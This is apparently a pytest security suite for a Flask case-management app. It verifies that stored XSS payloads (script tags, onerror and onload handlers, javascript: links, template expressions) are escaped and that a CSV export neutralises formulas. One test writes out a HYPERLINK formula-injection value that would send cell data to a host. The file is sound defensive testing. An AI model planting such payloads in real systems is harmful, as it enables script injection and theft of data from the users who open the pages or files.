"""Stored XSS: a script payload in every text field, read back on every page that shows it.

Attack: a melder, AF, partner, chair or procesregisseur types ``<script>``, an ``onerror`` image, an
``onload`` SVG, a ``javascript:`` link and a template expression into every free-text field (melding,
task forms, agenda, minutes, saved filter, draft name, form title and help, deploy comment, process
name, documentation and instructions in an uploaded model, advice question), for others to open.
Expected refusal: every page that shows the text shows it escaped (``&lt;script&gt;``), never as markup,
and ``{{7*7}}`` stays text. Exports get the same treatment: no spreadsheet formula survives in the CSV.
The browser half (tests/security/test_xss_browser.py) proves that nothing executes.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.support.chain import Chain
from tests.support.scene import built_chain, scene_database
from tests.support.werkbak import csrf_of, logged_in
from tests.support.xss_story import ESCAPED, PAGES, RAW, XssStory, build


@dataclass
class Story:
    story: XssStory
    app: Flask
    chain: Chain
    clients: dict[tuple[str, str], FlaskClient]

    def client(self, who: tuple[str, str]) -> FlaskClient:
        if who not in self.clients:
            self.clients[who] = logged_in(self.app, self.chain, *who)
        return self.clients[who]


@pytest.fixture(scope="session")
def xss_story(tmp_path_factory: pytest.TempPathFactory, _sqlite_template: Path) -> Iterator[Story]:
    """The hostile story, built once per worker on a database of its own; the page tests only read it."""
    root = tmp_path_factory.mktemp("xss")
    with built_chain(scene_database("sqlite", root, _sqlite_template, "xss"), root / "instance") as (chain, app):
        yield Story(build(chain), app, chain, {})


# The story (a case through every task, a meeting, a model) is set up inside the first test a worker runs.
@pytest.mark.timeout(600)
@pytest.mark.parametrize(("who", "path"), PAGES, ids=[f"{path} as {who[0]}" for who, path in PAGES])
def test_this_page_shows_every_hostile_text_escaped(xss_story, who, path):
    """Attack: stored payloads in every text field. Refusal: escaped on the page, never raw markup."""
    path = path.format(**dataclasses.asdict(xss_story.story))
    response = xss_story.client(who).get(path)
    html = response.get_data(as_text=True)
    assert response.status_code == 200, f"{path} as {who[0]}: {response.status_code}"
    raw = [marker for marker in RAW if marker in html]
    assert not raw, f"{path} as {who[0]}: raw markup {raw}"
    assert ESCAPED in html, f"{path} as {who[0]}: the hostile text is not shown at all (the test would prove nothing)"
    assert ">49<" not in html, f"{path} as {who[0]}: a template expression was evaluated"


def test_a_formula_in_a_melding_stays_text_in_the_auditors_csv_export(scene_app, chain):
    """Attack: ``=HYPERLINK(...)`` in a melding, opened by the auditor in a spreadsheet.
    Refusal: every cell that starts with = + - @ is prefixed with a quote in the export."""
    formula = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"klik")'
    chain.report("leeuwarden", omschrijving=formula)
    auditor = logged_in(scene_app, chain, "auditor", "leeuwarden")
    response = auditor.post("/audit/export", data={"van": "2026-03-01", "tot": "2026-03-31", "formaat": "csv",
                                                   "csrf_token": csrf_of(auditor, "/audit/export")})
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the export contains the melding"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a formula survived"
